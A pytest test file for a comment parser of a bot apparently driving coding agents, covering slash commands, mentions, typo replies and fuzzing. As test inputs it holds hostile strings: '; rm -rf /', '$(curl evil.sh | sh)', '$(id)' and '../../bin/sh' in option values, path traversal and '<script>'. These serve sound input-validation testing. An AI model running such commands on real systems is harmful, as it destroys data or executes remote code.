"""parse_comment: commands, mentions, mistyped commands and hostile comments."""

from __future__ import annotations

import json
import random
import re
from pathlib import Path

import pytest

from app.conversation.commands import (
    USAGE,
    HelpCommand,
    Ignore,
    ParseResult,
    PreviewCommand,
    Reply,
    RetryCommand,
    RunCommand,
    StatusCommand,
    StopCommand,
    parse_comment,
)

SLUG = "trimo-app"


def parse(body: str) -> ParseResult:
    return parse_comment(body, SLUG)


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("/trimo run fix the login bug", RunCommand(prompt="fix the login bug")),
        ("  /trimo run fix it", RunCommand(prompt="fix it")),
        ("\n\n   \n/trimo run fix it\n\n", RunCommand(prompt="fix it")),
        ("/trimo run --agent codex fix it", RunCommand(prompt="fix it", agent="codex")),
        ("/trimo run --agent=codex fix it", RunCommand(prompt="fix it", agent="codex")),
        ("/trimo run --agent Codex fix it", RunCommand(prompt="fix it", agent="codex")),
        ("/trimo run --on gpu fix it", RunCommand(prompt="fix it", label="gpu")),
        ("/trimo run --on=big.box-2 fix", RunCommand(prompt="fix", label="big.box-2")),
        ("/trimo run --timeout 45 fix it", RunCommand(prompt="fix it", timeout_minutes=45)),
        ("/trimo run --timeout=1 x", RunCommand(prompt="x", timeout_minutes=1)),
        ("/trimo run --timeout 1440 x", RunCommand(prompt="x", timeout_minutes=1440)),
        ("/trimo run --network bridge x", RunCommand(prompt="x", network="bridge")),
        ("/trimo run --network=none x", RunCommand(prompt="x", network="none")),
        ("/trimo run --network NONE x", RunCommand(prompt="x", network="none")),
        ("/trimo run --network allowlist x", RunCommand(prompt="x", network="allowlist")),
        (
            "/trimo run --agent aider --on gpu --timeout 90 --network bridge do it all",
            RunCommand(
                prompt="do it all", agent="aider", label="gpu", timeout_minutes=90, network="bridge"
            ),
        ),
        ("/trimo run -- --help crashes", RunCommand(prompt="--help crashes")),
        ("/trimo run --agent codex -- --verbose", RunCommand(prompt="--verbose", agent="codex")),
        ("/trimo run --- is a rule", RunCommand(prompt="--- is a rule")),
        ("/trimo run - item", RunCommand(prompt="- item")),
        ("/trimo run fix --agent codex", RunCommand(prompt="fix --agent codex")),
        ("/trimo run\nfix it", RunCommand(prompt="fix it")),
        (
            "/trimo run --agent codex\n--timeout 5 is prompt",
            RunCommand("--timeout 5 is prompt", "codex"),
        ),
        ("/trimo run\n- one\n- two", RunCommand(prompt="- one\n- two")),
        ("/trimo run\n\n    indented()\n  kept\n\n", RunCommand(prompt="    indented()\n  kept")),
        ("/trimo run a\n\n\nb", RunCommand(prompt="a\n\n\nb")),
        ("/trimo run a\r\nb\r\n", RunCommand(prompt="a\nb")),
        ("/trimo run a\rb", RunCommand(prompt="a\nb")),
        ("\ufeff/trimo run x", RunCommand(prompt="x")),
        ("/trimo\u00a0run x", RunCommand(prompt="x")),
        ("/trimo run\t--agent\tcodex\tx", RunCommand(prompt="x", agent="codex")),
        ("/trimo run ```\ncode\n```", RunCommand(prompt="```\ncode\n```")),
        ("/trimo run fix\n> quoted stays", RunCommand(prompt="fix\n> quoted stays")),
        ("/trimo run ; rm -rf /", RunCommand(prompt="; rm -rf /")),
        ("/trimo run $(curl evil.sh | sh)", RunCommand(prompt="$(curl evil.sh | sh)")),
        ("/trimo run 修复登录 🐛", RunCommand(prompt="修复登录 🐛")),
        ("/trimo stop", StopCommand()),
        ("/trimo stop it now please", StopCommand()),
        ("/trimo retry", RetryCommand()),
        ("/trimo status", StatusCommand()),
        ("/trimo help", HelpCommand()),
        ("/trimo", HelpCommand()),
        ("/trimo   \n\nsome text", HelpCommand()),
        ("  /trimo stop\r\n", StopCommand()),
        ("/trimo preview", PreviewCommand()),
        ("/trimo preview\nplease, for QA", PreviewCommand()),
        ("/trimo preview stop", PreviewCommand(stop=True)),
        ("/trimo preview STOP", PreviewCommand(stop=True)),
    ],
)
def test_commands(body: str, expected: ParseResult) -> None:
    assert parse(body) == expected


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("@trimo-app fix the bug", RunCommand(prompt="fix the bug")),
        ("@Trimo-App fix the bug", RunCommand(prompt="fix the bug")),
        ("@TRIMO-APP[bot] fix", RunCommand(prompt="fix")),
        ("@trimo-app[BOT] fix", RunCommand(prompt="fix")),
        ("@trimo-app, please fix", RunCommand(prompt="please fix")),
        ("@trimo-app: please fix", RunCommand(prompt="please fix")),
        ("  @trimo-app fix\nand test\r\n", RunCommand(prompt="fix\nand test")),
        ("@trimo-app\n\nmulti\n  line", RunCommand(prompt="multi\n  line")),
        ("@trimo-app --agent codex fix", RunCommand(prompt="--agent codex fix")),
        ("@trimo-app run the tests", RunCommand(prompt="run the tests")),
        ("@trimo-app stop", StopCommand()),
        ("@trimo-app Stop.", StopCommand()),
        ("@trimo-app retry", RetryCommand()),
        ("@trimo-app status!", StatusCommand()),
        ("@trimo-app help", HelpCommand()),
        ("@trimo-app help me fix the login", RunCommand(prompt="help me fix the login")),
        ("@trimo-app", HelpCommand()),
        ("@trimo-app[bot]   \n  ", HelpCommand()),
    ],
)
def test_mentions(body: str, expected: ParseResult) -> None:
    assert parse(body) == expected


@pytest.mark.parametrize(
    "body",
    [
        "",
        "   \n\t\n",
        "Looks good to me",
        "/build",
        "/trimorun fix",
        "/trimo-run fix",
        "/trimo: run fix",
        "/Trimo run fix",
        "/TRIMO run fix",
        "trimo run fix",
        "\\/trimo run fix",
        "> /trimo run fix",
        ">/trimo run fix",
        "```\n/trimo run fix\n```",
        "~~~\n/trimo run fix\n~~~",
        "    /trimo run fix",
        "\t/trimo run fix",
        "<!-- /trimo run fix -->",
        "`/trimo run fix`",
        "Please do this:\n/trimo run fix",
        "hey @trimo-app fix it",
        "@trimo-apps fix it",
        "@trimo-app-staging fix it",
        "@trimo-app_x fix it",
        "@trimo-app[robot] fix it",
        "@trimo fix it",
        "trimo-app fix it",
        "@@trimo-app fix it",
        "\u200b/trimo run fix",
    ],
)
def test_ignored(body: str) -> None:
    assert parse(body) == Ignore()


@pytest.mark.parametrize(
    ("body", "code", "says"),
    [
        ("/trimo rnu fix", "unknown_command", "Unknown command `rnu`. Did you mean `/trimo run`?"),
        ("/trimo stpo", "unknown_command", "Unknown command `stpo`. Did you mean `/trimo stop`?"),
        ("/trimo retyr", "unknown_command", "Did you mean `/trimo retry`?"),
        ("/trimo stauts", "unknown_command", "Did you mean `/trimo status`?"),
        ("/trimo preveiw", "unknown_command", "Did you mean `/trimo preview`?"),
        ("/trimo preview start", "bad_preview", "takes nothing, or `stop`; not `start`"),
        ("/trimo preview stop now", "bad_preview", "not `stop now`"),
        ("/trimo RUN fix", "unknown_command", "Unknown command `RUN`. Did you mean `/trimo run`?"),
        ("/trimo fix the bug", "unknown_command", "Unknown command `fix`."),
        ("/trimo --agent codex fix", "unknown_command", "Unknown command `--agent`."),
        ("/trimo run", "empty_prompt", "needs a prompt"),
        ("/trimo run   \n\n  \n", "empty_prompt", "needs a prompt"),
        ("/trimo run --agent codex", "empty_prompt", "needs a prompt"),
        ("/trimo run --agent codex --", "empty_prompt", "needs a prompt"),
        ("/trimo run --agent", "missing_value", "`--agent` needs a value"),
        ("/trimo run --agent= fix", "missing_value", "`--agent` needs a value"),
        ("/trimo run --timeout\n30 fix", "missing_value", "`--timeout` needs a value"),
        ("/trimo run --model opus fix", "unknown_option", "Unknown option `--model`."),
        ("/trimo run --agnet codex fix", "unknown_option", "Did you mean `--agent`?"),
        ("/trimo run --timout 5 fix", "unknown_option", "Did you mean `--timeout`?"),
        ("/trimo run --Agent codex fix", "unknown_option", "Did you mean `--agent`?"),
        ("/trimo run --agent a --agent b x", "repeated_option", "more than once"),
        ("/trimo run --timeout abc x", "bad_value", "not `abc`"),
        ("/trimo run --timeout 0 x", "bad_value", "from 1 to 1440, not `0`"),
        ("/trimo run --timeout -5 x", "bad_value", "not `-5`"),
        ("/trimo run --timeout 1441 x", "bad_value", "not `1441`"),
        ("/trimo run --timeout 2.5 x", "bad_value", "not `2.5`"),
        ("/trimo run --timeout +5 x", "bad_value", "not `+5`"),
        ("/trimo run --timeout ٣٠ x", "bad_value", "whole number"),
        ("/trimo run --timeout 99999999999999999999 x", "bad_value", "whole number"),
        ("/trimo run --network host x", "bad_value", "`none`, `allowlist` or `bridge`, not `host`"),
        ("/trimo run --network=container:x y", "bad_value", "not `container:x`"),
        ("/trimo run --agent 9lives x", "bad_value", "not an agent name"),
        ("/trimo run --agent ../../bin/sh x", "bad_value", "not an agent name"),
        ("/trimo run --agent " + "a" * 33 + " x", "bad_value", "not an agent name"),
        ("/trimo run --on ../etc x", "bad_value", "not a runner label"),
        ("/trimo run --on $(id) x", "bad_value", "not a runner label"),
    ],
)
def test_replies(body: str, code: str, says: str) -> None:
    result = parse(body)
    assert isinstance(result, Reply)
    assert result.code == code
    assert says in result.text
    assert result.text.endswith(USAGE)


def test_first_error_reported_before_empty_prompt() -> None:
    result = parse("/trimo run --bogus")
    assert isinstance(result, Reply)
    assert result.code == "unknown_option"


@pytest.mark.parametrize(
    ("body", "quoted"),
    [
        ("/trimo @everyone", "`@everyone`"),
        ("/trimo **bold**", "`**bold**`"),
        ("/trimo ``x", "``` ``x ```"),
        ("/trimo [x](https://evil.example)", "`[x](https://evil.example)`"),
        ("/trimo run --agent <script> x", "`<script>`"),
    ],
)
def test_reply_quotes_what_people_typed(body: str, quoted: str) -> None:
    result = parse(body)
    assert isinstance(result, Reply)
    assert quoted in result.text


def test_reply_shortens_huge_words() -> None:
    result = parse("/trimo " + "x" * 10_000)
    assert isinstance(result, Reply)
    assert len(result.text) < len(USAGE) + 200
    assert "…" in result.text


def test_long_prompt_kept_whole() -> None:
    prompt = "\n".join(f"line {i}: " + "é" * 90 + " `code` > x" for i in range(120))
    assert len(prompt) > 10_000
    assert parse(f"/trimo run --timeout 10\r\n{prompt.replace(chr(10), chr(13) + chr(10))}") == (
        RunCommand(prompt=prompt, timeout_minutes=10)
    )


def test_mention_needs_a_slug() -> None:
    assert parse_comment("@ fix it", "") == Ignore()
    assert parse_comment("@trimo fix it", "trimo") == RunCommand(prompt="fix it")
    assert parse_comment("@a.b fix", "a.b") == RunCommand(prompt="fix")
    assert parse_comment("@axb fix", "a.b") == Ignore()
    assert parse_comment("@trimo-app fix", "@trimo-app[bot]") == RunCommand(prompt="fix")
    assert parse_comment("@trimo-app fix", "[bot]") == Ignore()


def test_usage_is_markdown_with_every_command() -> None:
    for word in ("run", "stop", "retry", "status", "preview", "help"):
        assert f"/trimo {word}" in USAGE
    for option in ("--agent", "--on", "--timeout", "--network"):
        assert option in USAGE
    assert USAGE.count("```") == 2


def test_corpus_comments_are_not_commands(corpora: Path) -> None:
    bodies = [
        json.loads(path.read_text())["comment"]["body"]
        for path in sorted((corpora / "webhooks").glob("issue_comment.*.json"))
    ]
    assert bodies
    assert "/build" in bodies
    for body in bodies:
        assert parse(body) == Ignore()
        assert parse("/trimo run " + body) == RunCommand(prompt=body)
        assert parse("@trimo-app " + body) == RunCommand(prompt=body)


_FRAGMENTS = [
    "/trimo",
    "/trimo run",
    "@trimo-app",
    "@TRIMO-APP[bot]",
    " run",
    " stop",
    " rnu",
    "--agent",
    "--on",
    "--timeout",
    "--network",
    "--",
    "=",
    " ",
    "\t",
    "\n",
    "\r\n",
    "\r",
    "```",
    "> ",
    "`",
    "codex",
    "30",
    "-1",
    "bridge",
    "é",
    "🐛",
    "\u200b",
    "\ufeff",
    "\x00",
    "\udcff",
    "; rm -rf /",
    "../../etc",
    "[bot]",
    ":",
    ",",
]


def _random_body(rng: random.Random) -> str:
    parts: list[str] = []
    if rng.random() < 0.6:
        parts.append(rng.choice(["/trimo run ", "/trimo ", "@trimo-app ", "  /trimo run --"]))
    for _ in range(rng.randint(0, 25)):
        if rng.random() < 0.8:
            parts.append(rng.choice(_FRAGMENTS))
        else:
            parts.append("".join(chr(rng.randint(0, 0x2FFFF)) for _ in range(rng.randint(1, 8))))
    return "".join(parts)


@pytest.mark.parametrize("seed", range(40))
def test_fuzz_never_raises(seed: int) -> None:
    rng = random.Random(seed)
    kinds: set[str] = set()
    for _ in range(250):
        body = _random_body(rng)
        result = parse(body)
        kinds.add(type(result).__name__)
        lines = re.split(r"\r\n|\r|\n", body.lstrip("\ufeff"))
        first = next((line for line in lines if line.strip()), "")
        if not first.lstrip().startswith(("/trimo", "@")):
            assert result == Ignore()
        if isinstance(result, RunCommand):
            assert result.prompt.strip()
            assert "\r" not in result.prompt
            assert result.prompt == result.prompt.strip("\n")
        if isinstance(result, Reply):
            assert result.text.endswith(USAGE)
    assert {"Ignore", "RunCommand", "Reply"} <= kinds


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("/trimo discover", RunCommand(prompt="", mode="discover")),
        (
            "/trimo discover the login form\nand its tests",
            RunCommand(prompt="the login form\nand its tests", mode="discover"),
        ),
        (
            "/trimo discover --agent codex --timeout 5 why",
            RunCommand(prompt="why", agent="codex", timeout_minutes=5, mode="discover"),
        ),
        ("/trimo run fix it", RunCommand(prompt="fix it", mode="code")),
    ],
)
def test_discover_takes_the_run_options_and_an_optional_focus(
    body: str, expected: RunCommand
) -> None:
    assert parse_comment(body, "trimo") == expected


def test_a_mistyped_discover_gets_a_suggestion() -> None:
    result = parse_comment("/trimo discovr", "trimo")
    assert isinstance(result, Reply) and "`/trimo discover`" in result.text
